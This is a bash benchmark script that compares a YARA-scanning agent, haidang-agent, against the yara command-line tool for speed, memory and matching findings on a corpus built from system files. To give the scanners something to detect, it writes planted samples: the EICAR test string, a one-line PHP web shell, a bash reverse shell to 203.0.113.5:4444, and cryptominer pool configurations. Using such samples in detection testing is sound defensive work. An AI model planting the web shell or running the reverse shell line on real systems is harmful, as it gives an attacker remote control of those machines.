#!/usr/bin/env bash
# YARA benchmark: `haidang-agent scan --yara RULES --json DIR` against the `yara` CLI (Debian
# package yara, libyara) with the same rule files on the same corpus, in the same run, page
# cache warm, alternating the tools, at equal thread counts (1, then all cores). Each tool
# runs as it would on its second use: the agent with its compiled rules kept from a first
# run (see yara/src/rule_cache.rs), yara both from source and with rules compiled
# once by yarac (`yara -C`), its fastest way to start. Rule loading alone is also timed,
# compiling and from compiled rules, for both. Wall
# time, CPU time and peak RSS come from /usr/bin/time -v; MB/s is corpus bytes (10^6) over
# wall time. The issue's goal is >= 1.5x the yara CLI's throughput, with agent RSS <= 100 MB.
#
#   bench/bench-yara.sh                  # as root the first time: installs yara and time
#   YARA_BENCH_RULES=/work/tools/signature-base/yara bench/bench-yara.sh
#
# Environment (all optional):
#   YARA_BENCH_RULES  a directory of *.yar files, read-only       (default rules/yara)
#   YARA_BENCH_WORK   scratch directory, emptied first            (default /tmp/yarabench)
#   YARA_BENCH_MB     approximate corpus size in MB                (default 512)
#   HAIDANG_AGENT     a release haidang-agent binary to use instead of building one
#   YARA_BENCH_REUSE  1: keep the corpus of an earlier run in YARA_BENCH_WORK
#   RUNS              timed runs per tool and thread count        (default 3)
#   QUIET_LOAD        before each timed run, wait (up to QUIET_WAIT seconds, default 120) for
#                     the 1-minute load average to fall below this (default: cores / 2); each
#                     row records the load it started with
#   CARGO_TARGET_DIR  where the release binary is built           (default ~/.cache/haidang/target)
#
# The rules: every *.yar file of YARA_BENCH_RULES that the yara CLI compiles (yarac, with the
# external variables defined) and that imports no module the agent is built without, copied
# to $WORK/rules; both tools get exactly those files, each file in its own namespace (the
# agent's loader does that; yara gets NAMESPACE:FILE). The yara CLI cannot set the external
# variables (filename, filepath, extension, filetype, owner) per file, so it gets them all as
# the string "unset" (-d); the agent sets them per file.
#
# The corpus: real ELF executables and libraries (/usr/bin, /usr/lib), text and documentation
# (/usr/share), no two files with the same content (the agent skips content it has seen by
# hash; yara does not, so duplicates would flatter the agent), and planted samples (EICAR,
# web shell, reverse shell, miner). Threads: the agent sizes its pool from the CPU affinity
# mask, so `taskset -c 0` gives it one thread, against `yara -p 1` on the same CPU.
#
# The findings of the two tools are compared on the rules whose file does not mention an
# external variable; differences are listed, not hidden. Prints a Markdown summary, also
# written to $WORK/results.md.
set -euo pipefail
cd "$(dirname "$0")/.."

RULES_SRC=${YARA_BENCH_RULES:-rules/yara}
WORK=${YARA_BENCH_WORK:-/tmp/yarabench}
MB=${YARA_BENCH_MB:-512}
RUNS=${RUNS:-3}
QUIET_LOAD=${QUIET_LOAD:-$(awk -v n="$(nproc)" 'BEGIN {print n / 2}')}
QUIET_WAIT=${QUIET_WAIT:-120}
CORES=$(nproc)
export CARGO_TARGET_DIR=${CARGO_TARGET_DIR:-$HOME/.cache/haidang/target}
EXTERNALS=(filename filepath extension filetype owner)
# Modules yara-x has and the agent is not built with (yara/src/rules.rs).
MODULES_NOT_BUILT='crx|cuckoo|dex|lnk|macho|magic|msi|olecf|vba|vt|zip'

say() { printf '\n== %s\n' "$*" >&2; }

need_apt=()
command -v yara >/dev/null || need_apt+=(yara)
[ -x /usr/bin/time ] || need_apt+=(time)
command -v jq >/dev/null || need_apt+=(jq)
command -v taskset >/dev/null || need_apt+=(util-linux)
if [ ${#need_apt[@]} -gt 0 ]; then
    say "installing ${need_apt[*]}"
    [ "$(id -u)" = 0 ] || { echo "error: run as root to install ${need_apt[*]}" >&2; exit 2; }
    apt-get update -qq
    DEBIAN_FRONTEND=noninteractive apt-get install -y -qq "${need_apt[@]}" >/dev/null
fi

if [ -n "${HAIDANG_AGENT:-}" ]; then
    AGENT=$(realpath "$HAIDANG_AGENT")
else
    say "building haidang-agent (release)"
    cargo build --release -p haidang-agent >&2
    AGENT=$CARGO_TARGET_DIR/release/haidang-agent
fi
RULES_SRC=$(realpath "$RULES_SRC")

REUSE=0
if [ "${YARA_BENCH_REUSE:-0}" = 1 ] && [ -d "$WORK/corpus/planted" ]; then
    REUSE=1
    find "$WORK" -mindepth 1 -maxdepth 1 ! -name corpus -exec rm -rf {} +
else
    rm -rf "$WORK"
fi
mkdir -p "$WORK/corpus/bin" "$WORK/corpus/lib" "$WORK/corpus/text" "$WORK/corpus/planted" "$WORK/runs" \
    "$WORK/rules" "$WORK/empty"

say "selecting rule files from $RULES_SRC"
DEFINES=()
for name in "${EXTERNALS[@]}"; do DEFINES+=(-d "$name=unset"); done
skipped=0
while IFS= read -r -d '' f; do
    if grep -Eq "import \"($MODULES_NOT_BUILT)\"" "$f" || ! yarac "${DEFINES[@]}" "$f" "$WORK/check.yarc" 2>>"$WORK/yarac.err"; then
        skipped=$((skipped + 1))
        continue
    fi
    cp "$f" "$WORK/rules/$(basename "$f")"
done < <(find "$RULES_SRC" -maxdepth 1 -type f \( -name '*.yar' -o -name '*.yara' \) -print0 | LC_ALL=C sort -z)
RULE_FILES=$(find "$WORK/rules" -type f | wc -l)
RULE_COUNT=$(cat "$WORK"/rules/* | grep -cE '^\s*((private|global)\s+)*rule\s' || true)
say "$RULE_FILES rule files ($RULE_COUNT rules), $skipped left out"
YARA_RULE_ARGS=()
for f in "$WORK"/rules/*; do
    b=$(basename "$f")
    YARA_RULE_ARGS+=("${b%.*}:$f")
done

if [ "$REUSE" = 1 ]; then
    say "reusing the corpus in $WORK/corpus"
else
    say "generating a ~${MB} MB corpus in $WORK/corpus"
    # Copy regular files (no links), each content once, up to a byte budget per kind: 40%
    # executables, 30% libraries, 30% text.
    declare -A SEEN=()
    copy_budget() { # SRC DEST BYTES
        local src=$1 dest=$2 budget=$3 total=0 n=0 size sum
        while IFS= read -r -d '' f; do
            size=$(stat -c %s "$f")
            [ "$size" -gt 0 ] && [ "$size" -le 67108864 ] || continue
            sum=$(md5sum <"$f" | cut -c1-32) || continue
            [ -z "${SEEN[$sum]:-}" ] || continue
            SEEN[$sum]=1
            cp "$f" "$dest/$n-$(basename "$f")" 2>/dev/null || continue
            total=$((total + size)); n=$((n + 1))
            [ "$total" -lt "$budget" ] || break
        done < <(find "$src" -xdev -type f -readable -print0 2>/dev/null | LC_ALL=C sort -z)
    }
    copy_budget /usr/bin "$WORK/corpus/bin" $((MB * 1000000 * 4 / 10))
    copy_budget /usr/lib "$WORK/corpus/lib" $((MB * 1000000 * 3 / 10))
    copy_budget /usr/share "$WORK/corpus/text" $((MB * 1000000 * 3 / 10))
    # Planted samples, built here so this script is not itself a sample.
    P=$WORK/corpus/planted
    printf '%s%s' 'X5O!P%@AP[4\PZX54(P^)7CC)7}$' 'EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*' >"$P/eicar.com"
    printf '<?php @eval($_POST["x"]); ?>\n' >"$P/up.php"
    printf '#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n' >"$P/rs.sh"
    printf '{"pools": [{"url": "stratum+tcp://pool.example.org:443", "user": "4Abc"}]}\n' >"$P/config.json"
    { printf '\177ELF\002\001\001\000'; head -c 4096 /dev/zero | tr '\0' 'A'; printf 'stratum+tcp://pool.example.org:3333\000--donate-level\000'; } >"$P/xmr"
fi
CORPUS_BYTES=$(find "$WORK/corpus" -type f -printf '%s\n' | awk '{s += $1} END {print s}')
CORPUS_FILES=$(find "$WORK/corpus" -type f | wc -l)
say "corpus: $CORPUS_FILES files, $((CORPUS_BYTES / 1000000)) MB"

# timed LABEL NAME CMD... : one row of $ROWS (bench/bench-timed.sh). The agent exits 1 on
# findings, yara 0; anything else (2: error) stops the script.
ROWS=$WORK/rows.tsv
: >"$ROWS"
. bench/bench-timed.sh
timed() { timed_run '0|1' "$@"; }

say "warming the page cache"
find "$WORK/corpus" -type f -print0 | xargs -0 cat >/dev/null

# The agent keeps compiled rules per user; a cache of its own makes the first load a compile.
export XDG_CACHE_HOME=$WORK/cache
yarac "${DEFINES[@]}" "${YARA_RULE_ARGS[@]}" "$WORK/rules.yarc"

say "rule loading alone (an empty directory)"
timed "agent, rules only, compiling" agent-compile "$AGENT" scan --yara "$WORK/rules" --json "$WORK/empty"
timed "agent, rules only" agent-load "$AGENT" scan --yara "$WORK/rules" --json "$WORK/empty"
timed "yara, rules only" yara-load yara -r "${DEFINES[@]}" "${YARA_RULE_ARGS[@]}" "$WORK/empty"
timed "yara -C, rules only" yarac-load yara -C -r "${DEFINES[@]}" "$WORK/rules.yarc" "$WORK/empty"
grep -q "(compiled before)" "$WORK/runs/agent-load.err" || {
    echo "error: the agent did not use its compiled rules; see $WORK/runs/agent-load.err" >&2
    exit 2
}

say "timed runs ($RUNS each, alternating)"
for threads in 1 "$CORES"; do
    cpus=$(seq -s, 0 $((threads - 1)))
    for run in $(seq 1 "$RUNS"); do
        timed "haidang-agent scan, $threads thr" "agent-$threads-$run" \
            taskset -c "$cpus" "$AGENT" scan --yara "$WORK/rules" --json "$WORK/corpus"
        timed "yara -r -p $threads" "yara-$threads-$run" \
            taskset -c "$cpus" yara -r -p "$threads" "${DEFINES[@]}" "${YARA_RULE_ARGS[@]}" "$WORK/corpus"
        timed "yara -C -r -p $threads" "yarac-$threads-$run" \
            taskset -c "$cpus" yara -C -r -p "$threads" "${DEFINES[@]}" "$WORK/rules.yarc" "$WORK/corpus"
    done
done

say "comparing findings"
# Rules of files that mention an external variable: the tools see different values there.
python3 - "$WORK/rules" >"$WORK/external-rules.txt" <<'PY'
import os, re, sys
root = sys.argv[1]
for name in sorted(os.listdir(root)):
    src = open(os.path.join(root, name), encoding="utf-8", errors="replace").read()
    if re.search(r"\b(filename|filepath|extension|filetype|owner)\b", src):
        for rule in re.findall(r"^\s*(?:(?:private|global)\s+)*rule\s+(\w+)", src, re.M):
            print(rule)
PY
jq -r 'select(.kind == "malware") | "\(.rule) \(.path)"' "$WORK/runs/agent-$CORES-1.out" | sort -u >"$WORK/agent-all.txt"
sort -u "$WORK/runs/yara-$CORES-1.out" >"$WORK/yara-all.txt"
sort -u "$WORK/runs/yarac-$CORES-1.out" >"$WORK/yarac-all.txt"
cmp -s "$WORK/yara-all.txt" "$WORK/yarac-all.txt" && YARAC_SAME=yes || YARAC_SAME=no
grep -vwFf "$WORK/external-rules.txt" "$WORK/agent-all.txt" >"$WORK/agent-findings.txt" || true
grep -vwFf "$WORK/external-rules.txt" "$WORK/yara-all.txt" >"$WORK/yara-findings.txt" || true
diff "$WORK/yara-findings.txt" "$WORK/agent-findings.txt" >"$WORK/findings.diff" || true
ONLY_YARA=$(grep -c '^<' "$WORK/findings.diff" || true)
ONLY_AGENT=$(grep -c '^>' "$WORK/findings.diff" || true)
AGENT_RULES=$(grep -oE '[0-9]+ YARA rules from [0-9]+ files' "$WORK/runs/agent-load.err" | head -1 || true)
AGENT_PROBLEMS=$(grep -c '^warning: YARA rule not loaded' "$WORK/runs/agent-load.err" || true)

RESULTS=$WORK/results.md
CPU_MODEL=$(lscpu | awk -F': +' '/^Model name/ {print $2; exit}')
python3 - "$ROWS" "$CORPUS_BYTES" "$CORES" >"$WORK/summary.md" <<'PY'
import statistics, sys
rows_f, size, cores = sys.argv[1], int(sys.argv[2]), sys.argv[3]
rows = [l.rstrip("\n").split("\t") for l in open(rows_f) if l.strip()]
mb = size / 1e6
p = print
p("| run | wall s | user s | sys s | CPU s | MB/s (wall) | peak RSS MiB | findings | load avg before |")
p("|---|---:|---:|---:|---:|---:|---:|---:|---:|")
for label, wall, user, sys_, rss, load, rc, lines in rows:
    cpu = float(user) + float(sys_)
    rate = f"{mb / float(wall):.1f}" if "rules only" not in label else "–"
    p(f"| {label} | {float(wall):.2f} | {float(user):.2f} | {float(sys_):.2f} | {cpu:.2f} | {rate} | {int(rss) / 1024:.0f} | {int(lines):,} | {load} |")
def med(label, col):
    v = [float(r[1]) if col == "wall" else float(r[2]) + float(r[3]) for r in rows if r[0] == label]
    return statistics.median(v)
def rss(label):
    return max(int(r[4]) for r in rows if r[0] == label) / 1024
p("")
for t in ["1", cores]:
    a = f"haidang-agent scan, {t} thr"
    p(f"- **{t} thread{'s' if t != '1' else ''}**: median wall haidang-agent {med(a, 'wall'):.2f} s ({mb / med(a, 'wall'):.1f} MB/s, "
      f"CPU {med(a, 'cpu'):.2f} s, peak RSS {rss(a):.0f} MiB)")
    for y, how in [(f"yara -C -r -p {t}", "compiled rules"), (f"yara -r -p {t}", "from source")]:
        p(f"  - against yara, {how}: {med(y, 'wall'):.2f} s ({mb / med(y, 'wall'):.1f} MB/s, CPU {med(y, 'cpu'):.2f} s, "
          f"peak RSS {rss(y):.0f} MiB): **{med(y, 'wall') / med(a, 'wall'):.2f}×** yara's throughput by wall time, "
          f"{med(y, 'cpu') / med(a, 'cpu'):.2f}× by CPU time (goal ≥ 1.5×)")
lc, la, ly, lyc = "agent, rules only, compiling", "agent, rules only", "yara, rules only", "yara -C, rules only"
p(f"- rule loading alone: haidang-agent compiling {med(lc, 'wall'):.2f} s wall / {rss(lc):.0f} MiB, from its compiled rules "
  f"{med(la, 'wall'):.2f} s / {rss(la):.0f} MiB; yara from source {med(ly, 'wall'):.2f} s / {rss(ly):.0f} MiB, "
  f"from compiled rules {med(lyc, 'wall'):.2f} s / {rss(lyc):.0f} MiB. Each run above includes its tool's loading")
PY
{
    echo "YARA scan: $CORPUS_FILES files, $((CORPUS_BYTES / 1000000)) MB (distinct contents); rules: $RULE_FILES files, $RULE_COUNT rules from $RULES_SRC ($skipped files left out); agent loaded: ${AGENT_RULES:-?}, $AGENT_PROBLEMS rules or files not loaded (see $WORK/runs/agent-load.err). Machine: $CORES cores ($CPU_MODEL), Linux $(uname -r); $(yara --version | sed 's/^/yara /'); page cache warm."
    echo
    cat "$WORK/summary.md"
    echo "- findings ($CORES-thread run 1), rules whose file mentions no external variable: yara $(wc -l <"$WORK/yara-findings.txt"), haidang-agent $(wc -l <"$WORK/agent-findings.txt"); only in yara: $ONLY_YARA, only in haidang-agent: $ONLY_AGENT (diff in $WORK/findings.diff). All rules: yara $(wc -l <"$WORK/yara-all.txt"), haidang-agent $(wc -l <"$WORK/agent-all.txt"). yara with compiled rules found the same as from source: $YARAC_SAME."
} | tee "$RESULTS"
